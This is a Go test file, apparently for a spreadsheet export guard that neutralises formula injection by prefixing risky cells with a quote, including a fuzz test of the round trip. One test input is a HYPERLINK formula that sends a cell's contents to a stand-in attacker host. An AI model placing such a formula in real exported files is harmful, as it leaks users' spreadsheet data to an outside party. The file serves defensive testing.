package sheet

import "testing"

func TestGuard(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`},
		{"+Инстанция", "'+Инстанция"},
		{"-ism", "'-ism"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"'=already", "''=already"},
		{"Ставка", "Ставка"},
		{"it's", "it's"},
		{"'quoted'", "'quoted'"},
		{"", ""},
		{"'", "'"},
	} {
		got := Guard(tc.in)
		if got != tc.want {
			t.Errorf("Guard(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if back := Unguard(got); back != tc.in {
			t.Errorf("Unguard(%q) = %q, want %q", got, back, tc.in)
		}
	}
}

func FuzzGuard(f *testing.F) {
	f.Add("'=x")
	f.Fuzz(func(t *testing.T, s string) {
		g := Guard(s)
		if Unguard(g) != s {
			t.Fatalf("Unguard(Guard(%q)) = %q", s, Unguard(g))
		}
		if needsGuard(g) && g[0] != '\'' {
			t.Fatalf("Guard(%q) = %q starts a formula", s, g)
		}
	})
}
